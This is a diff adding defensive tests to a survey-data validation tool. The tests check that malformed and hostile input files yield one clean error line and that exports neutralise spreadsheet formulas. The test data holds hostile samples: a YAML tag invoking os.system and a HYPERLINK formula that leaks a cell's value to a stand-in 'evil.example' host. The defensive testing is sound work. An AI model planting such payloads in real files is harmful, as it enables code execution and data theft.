@@ -46,6 +46,11 @@ EXPECTED = {
     "input_outside": ["parameters.margins_path", "outside the project", "--allow-input"],
     "ansi_path": ["parameters.staff_path", "not found", "\\x1b[32mruse-research: all 8 runs ok"],
     "alias_bomb": ["params/alias_bomb.yaml", "alias bomb"],
+    "params_list": ["params/params_list.yaml", "found list", "expected a mapping with keys notebook"],
+    "python_tag": ["params/python_tag.yaml", "not valid YAML", "python/object/apply:os.system"],
+    "duplicate_key": ["params/duplicate_key.yaml", "key 'lang' appears twice", "line 5"],
+    "ci_level_nan": ["parameters.ci_level", "found nan", "expected a finite number"],
+    "nul_in_path": ["parameters.staff_path", "staff.csv\\x00.txt", "not found"],
 }
 
 
@@ -121,7 +126,71 @@ def _one_line(code: int, lines: list[str]) -> str:
 
 
 def test_every_case_file_has_an_expectation():
-    assert sorted(p.name[: -len(".yaml")] for p in CASES_DIR.iterdir()) == sorted(EXPECTED)
+    assert sorted(p.name[: -len(".yaml")] for p in CASES_DIR.iterdir() if p.is_file()) == sorted(EXPECTED)
+    assert sorted(p.name for p in DATA_DIR.iterdir()) == sorted([*DATA_CASES, "cb_duplicate_keys.yaml", "rtl_override_column.csv"])
+
+
+# --------------------------------------------------------------------------- hostile data files
+
+DATA_DIR = CASES_DIR / "data"
+# data file (validated against the corpus' mini codebook) -> substrings of the one line
+DATA_CASES = {
+    "bom_cp1251_mix.csv": ["bom_cp1251_mix.csv, row 3", "not UTF-8 in a file that is otherwise UTF-8",
+                           "mixes encodings"],
+    "nul_bytes.csv": ["nul_bytes.csv, row 2", "NUL bytes", "expected UTF-8 or Windows-1251 text"],
+    "formula_id_hyperlink.csv": ["row 2, column 'resp_id'", "=HYPERLINK(", "not a spreadsheet formula"],
+    "xlsx_empty_sheet.xlsx": ["an empty first sheet 'Sheet'", "header in row 1"],
+}
+
+
+@pytest.mark.parametrize("name", sorted(DATA_CASES))
+def test_hostile_data_files_give_one_line(name, capsys):
+    path = DATA_DIR / name
+    before = path.read_bytes()
+    code = cli.main(["validate", str(path), "--codebook", str(MINI)])
+    captured = capsys.readouterr()
+    line = _one_line(code, [x for x in captured.err.splitlines() if x.strip()])
+    assert "Traceback" not in captured.err and "\x1b" not in captured.err
+    for expected in DATA_CASES[name]:
+        assert expected in line, (expected, line)
+    assert path.read_bytes() == before
+
+
+def test_a_codebook_with_a_duplicate_key_gives_one_line(capsys):
+    code = cli.main(["validate", str(DATA_DIR.parent.parent / "valid.csv"), "--codebook",
+                     str(DATA_DIR / "cb_duplicate_keys.yaml")])
+    line = _one_line(code, capsys.readouterr().err.splitlines())
+    assert "cb_duplicate_keys.yaml: line 3: key 'instrument' appears twice (first on line 2)" in line
+
+
+def test_a_column_name_with_a_right_to_left_override_is_read_as_its_visible_name():
+    from ruse_research.data import codebook, io
+
+    path = DATA_DIR / "rtl_override_column.csv"
+    assert "\u202e" in path.read_text(encoding="utf-8")
+    frame = io.read_survey(path, codebook.load_codebook(MINI))
+    assert list(frame.columns)[-1] == "comment"  # the override character is gone, not shown
+    assert not any("\u202e" in str(c) for c in frame.columns)
+
+
+def test_a_formula_id_is_neutralised_in_the_xlsx_and_csv_exports(tmp_path):
+    import openpyxl
+    import pandas as pd
+
+    from ruse_research.display.tables import table_bundle
+    from ruse_research.runner.artifacts import write_table
+
+    formula = '=HYPERLINK("http://evil.example/?"&B2,"click")'
+    data, _ = table_bundle(pd.DataFrame({"Respondent": [formula, "@SUM(A1)"], "n": [12, 30]}), "ids",
+                           lang="en")
+    write_table(data["application/vnd.ruse.table+json"], tmp_path)
+    sheet = openpyxl.load_workbook(tmp_path / "ids.xlsx").active
+    cells = [sheet.cell(row=r, column=1) for r in (3, 4)]
+    assert [c.data_type for c in cells] == ["s", "s"]  # text, never a formula
+    assert all(not str(c.value).startswith(("=", "@")) for c in cells)
+    assert formula in str(cells[0].value)  # the text itself is kept, defused
+    text = (tmp_path / "ids.csv").read_text(encoding="utf-8-sig")
+    assert "\n=HYPERLINK" not in text and "\n@SUM" not in text and ',=HYPERLINK' not in text
 
 
 @pytest.mark.parametrize("case", sorted(EXPECTED))
